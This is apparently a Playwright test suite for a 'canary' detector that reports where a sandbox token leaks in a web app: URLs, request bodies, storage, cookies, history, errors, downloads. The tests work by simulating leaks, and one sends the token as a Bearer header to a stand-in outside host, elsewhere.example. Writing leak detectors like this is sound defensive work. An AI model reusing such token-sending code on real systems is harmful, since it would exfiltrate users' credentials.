// The canary sings: each place that it looks at over the whole suite is shown a token once, and it tells.

import { expect, test } from "../fixtures.ts";

test("a token is found wherever it leaks to", async ({ canary, page, sandbox, signedIn, guard }) => {
  guard.allow(/status of 40\d/);
  const token = await sandbox.token();
  await signedIn();
  expect(await canary.take()).toEqual([]);

  const leaks: [string, (token: string) => unknown][] = [
    ["address", (text) => void fetch(`./?${text}`)],
    ["body", (text) => void fetch("./nothing", { method: "POST", body: text }).catch(() => {})],
    ["header x-other", (text) => void fetch("./", { headers: { "x-other": text } })],
    ["log", (text) => console.log(`it is ${text}`)],
    ["clipboard", (text) => void navigator.clipboard?.writeText(text).catch(() => {})],
    ["history", (text) => history.replaceState({ text }, "")],
    ["history", (text) => history.replaceState(null, "", `./?q=${text}`)],
    ["document", (text) => document.body.append(document.createComment(text))],
    ["fields", (text) => ((document.querySelector("input") as HTMLInputElement).value = text)],
    ["local storage", (text) => localStorage.setItem("other", text)],
    [
      "IndexedDB",
      (text) =>
        new Promise((resolve) => {
          const request = indexedDB.open("other", 1);
          request.onupgradeneeded = () => request.result.createObjectStore("texts").put(text, "key");
          request.onsuccess = () => resolve(request.result.close());
        }),
    ],
    ["session storage", (text) => sessionStorage.setItem("other", text)],
    ["channel", (text) => new BroadcastChannel("other").postMessage({ text })],
    ["lock", (text) => void navigator.locks.request(`for ${text}`, () => {})],
    ["cookie other", (text) => (document.cookie = `other=${text}`)],
  ];
  for (const [where, leak] of leaks) {
    await page.evaluate(leak, token);
    await expect
      .poll(async () => (await canary.take()).some((found) => found.startsWith(where)), `a token in: ${where}`)
      .toBe(true);
  }
  await page.evaluate(() => {
    localStorage.clear();
    sessionStorage.removeItem("other");
    indexedDB.deleteDatabase("other");
    document.cookie = "other=; max-age=0";
  });
  await page.goto("./");
  await canary.take();
});

test("a token in a header to another origin, in an error and in a download is found", async ({ canary, page, sandbox, signedIn, guard }) => {
  guard.allow(/uncaught|Content Security Policy|^policy|ERR_/);
  const token = await sandbox.token();
  await signedIn();
  await page.evaluate((text) => void setTimeout(() => { throw new Error(text); }), token);
  await expect.poll(async () => (await canary.take()).join()).toMatch(/error: /);
  const download = page.waitForEvent("download");
  await page.evaluate((text) => {
    const link = document.createElement("a");
    link.href = URL.createObjectURL(new Blob([text]));
    link.download = "runs.csv";
    link.click();
  }, token);
  await download;
  expect((await canary.take()).join()).toMatch(/download: /);

  const other = await page.context().newPage();
  await other.route("https://elsewhere.example/**", (route) =>
    route.fulfill({ body: "", headers: { "access-control-allow-origin": "*", "access-control-allow-headers": "authorization" } }),
  );
  await other.goto("about:blank");
  await other.evaluate(async (text) => {
    await fetch("https://elsewhere.example/", { headers: { authorization: `Bearer ${text}` } }).catch(() => {});
  }, token);
  expect((await canary.take()).join()).toMatch(/header authorization to https:\/\/elsewhere\.example/);
});
